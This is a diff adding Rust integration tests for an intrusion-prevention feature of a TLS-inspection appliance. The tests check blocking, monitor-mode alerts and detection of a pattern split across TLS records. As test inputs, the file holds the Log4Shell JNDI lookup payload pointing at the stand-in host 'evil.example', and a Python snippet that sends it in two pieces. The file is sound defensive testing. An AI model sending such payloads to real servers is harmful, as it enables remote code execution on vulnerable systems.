@@ -1,0 +1,81 @@
+//! The IPS on decrypted traffic through the appliance: a Log4Shell request is blocked with a
+//! block page naming the rule (and never reaches the server), passes with an alert in monitor
+//! mode, and is caught when split across two TLS records.
+#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a failed unwrap is a failed test")]
+
+use anyhow::Result;
+use tls_inspect_tests::tlsbed::Bed;
+use tls_inspect_tests::{check, SERVER_IP};
+
+const LOG4SHELL: &str = "/?q=$%7Bjndi:ldap://evil.example/a%7D";
+const LOG4SHELL_RAW: &str = "/?q=${jndi:ldap://evil.example/a}";
+
+fn alerts(b: &Bed) -> Vec<serde_json::Value> {
+    b.eve().into_iter().filter(|r| r["event_type"] == "alert").collect()
+}
+
+#[test]
+fn block_mode_answers_with_a_block_page_and_the_server_never_sees_it() -> Result<()> {
+    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"block\"\nlevel = \"strict\"")?;
+    b.nginx()?;
+    let ca = b.ca.to_str().unwrap().to_string();
+    // curl sends the URI as given (-g: no URL globbing of the braces).
+    let o = b.curl(&["--http1.1", "-g", "--path-as-is", "--cacert", &ca, &format!("https://server.test{LOG4SHELL_RAW}")]);
+    let out = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
+    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
+    // A clean request on the same appliance still works.
+    let o = b.curl(&["--http1.1", "--cacert", &ca, "https://server.test/"]);
+    assert!(String::from_utf8_lossy(&o.stdout).contains("hello from nginx"));
+    // The alert names the rule, the action, the URL and the flow's policy and scope.
+    let records = b.wait_records(3)?;
+    let a = records.iter().find(|r| r["event_type"] == "alert").expect("an alert record");
+    assert_eq!(a["alert"]["signature_id"], 9000001);
+    assert_eq!(a["alert"]["action"], "blocked");
+    assert_eq!(a["http"]["url"], LOG4SHELL_RAW);
+    assert_eq!(a["policy_id"], 3);
+    // nginx's access log never saw the blocked request.
+    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
+    assert!(!access.contains("jndi"), "the server received the blocked request: {access}");
+    Ok(())
+}
+
+#[test]
+fn monitor_mode_lets_it_through_with_an_alert() -> Result<()> {
+    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"monitor\"")?;
+    b.nginx()?;
+    let ca = b.ca.to_str().unwrap().to_string();
+    let o = b.curl(&["--http1.1", "--cacert", &ca, &format!("https://server.test{LOG4SHELL}")]);
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert!(out.contains("hello from nginx"), "{out}");
+    b.wait_records(2)?;
+    let a = alerts(&b);
+    assert_eq!(a.len(), 1, "{a:?}");
+    assert_eq!(a[0]["alert"]["action"], "allowed");
+    Ok(())
+}
+
+#[test]
+fn a_pattern_split_across_two_tls_records_is_caught() -> Result<()> {
+    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"block\"")?;
+    b.nginx()?;
+    let py = format!(
+        "import socket, ssl\n\
+         ctx = ssl.create_default_context(cafile='{}')\n\
+         s = ctx.wrap_socket(socket.create_connection(('{SERVER_IP}', 443), timeout=10), server_hostname='server.test')\n\
+         s.sendall(b'GET /?q=${{jn')\n\
+         s.sendall(b'di:ldap://x}} HTTP/1.1\\r\\nHost: server.test\\r\\n\\r\\n')\n\
+         data = b''\n\
+         while True:\n\
+         \x20   try:\n\
+         \x20       chunk = s.recv(4096)\n\
+         \x20   except (ssl.SSLError, ConnectionResetError):\n\
+         \x20       break\n\
+         \x20   if not chunk: break\n\
+         \x20   data += chunk\n\
+         print(data.decode(errors='replace'))\n",
+        b.ca.display()
+    );
+    let out = check(b.t.client.cmd("python3").args(["-c", &py]))?;
+    assert!(out.contains("403 Forbidden") && out.contains("sid 9000001"), "{out}");
+    Ok(())
+}
